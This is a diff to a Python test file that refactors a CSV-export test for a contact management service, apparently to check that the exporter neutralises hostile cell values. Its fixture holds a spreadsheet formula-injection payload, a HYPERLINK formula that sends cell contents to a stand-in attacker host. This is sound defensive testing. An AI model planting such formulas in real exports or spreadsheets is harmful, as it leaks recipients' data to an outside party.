@@ -12,7 +12,8 @@ import zipfile
 import pytest
 
 from optinbase.spreadsheet import cell
-from tests.factories import grant, make_contact, make_notice, make_purpose, make_tenant
+from tests.factories import make_contact, make_tenant
+from tests.security.scenes import exported_csv
 
 HOSTILE = {
     "first_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -31,19 +32,8 @@ def test_cell(value, written):
 
 
 async def test_segment_export_raw_bytes(client):
-    tenant = await make_tenant()
-    await make_purpose(tenant)
-    notice = await make_notice(tenant)
-    hostile = await make_contact(tenant, email="formula@example.org", phone="+33612345678",
-                                 **HOSTILE)
-    await grant(tenant, hostile["id"], notice["id"])
-    segment = await client.post("/v1/segments", headers=tenant.headers,
-                                json={"name": "all", "rules": {"type": "all", "rules": []}})
-    answer = await client.get(f"/v1/segments/{segment.json()['id']}/export",
-                              headers=tenant.headers,
-                              params={"channel": "email", "purpose": "newsletter",
-                                      "format": "csv"})
-    assert answer.status_code == 200
+    _, _, answer = await exported_csv(client, email="formula@example.org",
+                                      phone="+33612345678", **HOSTILE)
     raw = answer.content
     for value in HOSTILE.values():
         quoted = value.replace('"', '""')
